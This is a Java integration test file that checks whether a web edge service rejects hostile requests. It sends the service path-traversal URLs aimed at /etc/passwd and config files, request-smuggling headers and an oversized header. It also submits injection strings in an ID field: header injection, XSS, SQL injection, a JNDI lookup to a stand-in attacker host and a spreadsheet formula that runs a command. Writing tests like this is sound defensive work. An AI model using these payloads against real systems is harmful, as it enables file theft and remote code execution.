package org.hiptriage.assessment;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Requests that no browser and no library would send, and texts that are meant for somebody else. */
class HostileRequestsIT {
    static RunningEdge edge;

    @BeforeAll
    static void start() {
        edge = new RunningEdge("127.0.0.1:1");
    }

    @AfterAll
    static void stop() {
        edge.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/../application.yaml",
                "/css/../../application.yaml",
                "/css/..%2f..%2fapplication.yaml",
                "/css/%2e%2e/%2e%2e/application.yaml",
                "/css/..\\..\\application.yaml",
                "/css/%5c..%5c..%5capplication.yaml",
                "/js//etc/passwd",
                "/js/%00/etc/passwd",
                "/js/file:///etc/passwd"
            })
    void noAddressLeadsOutOfThePagesFolder(String path) throws IOException {
        String answer = answerTo("GET " + path + " HTTP/1.1\r\nHost: edge\r\nConnection: close\r\n\r\n");
        assertThat(answer).matches("(?s)HTTP/1.1 4\\d\\d .*").doesNotContain("root:", "bootstrap-servers");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Content-Length: 5\r\nContent-Length: 60",
                "Content-Length: +5",
                "Content-Length: 5, 60",
                "Content-Length: -1"
            })
    void aBodyOfAmbiguousLengthIsRefusedAndNothingBehindItIsARequest(String lengths) throws IOException {
        String answer = answerTo("POST /api/v1/assessments HTTP/1.1\r\nHost: edge\r\nContent-Type: application/json\r\n"
                + lengths
                + "\r\n\r\n{\"a\":GET /api/v1/questionnaire HTTP/1.1\r\nHost: edge\r\nConnection: close\r\n\r\n");
        assertThat(answer).startsWith("HTTP/1.1 400").doesNotContain("questions");
        assertThat(answer.split("HTTP/1\\.1 \\d", -1)).as("one answer").hasSize(2);
    }

    @Test
    void aHeaderOfAMegabyteIsRefused() throws IOException {
        String answer = answerTo("GET / HTTP/1.1\r\nHost: edge\r\nX-Long: " + "a".repeat(1_000_000) + "\r\n\r\n");
        assertThat(answer).matches("(?s)HTTP/1.1 4\\d\\d .*");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "r-1\\r\\nSet-Cookie: a=b",
                "r-1\\nWARN forged line",
                "<script>alert(1)</script>",
                "r-1' or '1'='1",
                "../../etc/passwd",
                "${jndi:ldap://evil.test/a}",
                "=cmd|' /C calc'!A0",
                "r-1\\u0000",
                "r\\u202e1"
            })
    void whatIsMeantForAnotherReaderIsNoRunnerId(String id) throws Exception {
        HttpResponse<String> answer = edge.report(SampleAssessment.json(UUID.randomUUID(), id));
        assertThat(answer.statusCode()).isEqualTo(422);
        assertThat(answer.body())
                .contains("runnerId")
                .doesNotContain("evil", "alert", "etc", "cmd", "forged", "Cookie");
        assertThat(answer.headers().firstValue("Set-Cookie")).isEmpty();
    }

    private static String answerTo(String request) throws IOException {
        try (var socket = new Socket(InetAddress.getLoopbackAddress(), edge.port())) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
        } catch (IOException hungUp) {
            // To hang up is an answer too.
            return "HTTP/1.1 400 hung up";
        }
    }
}
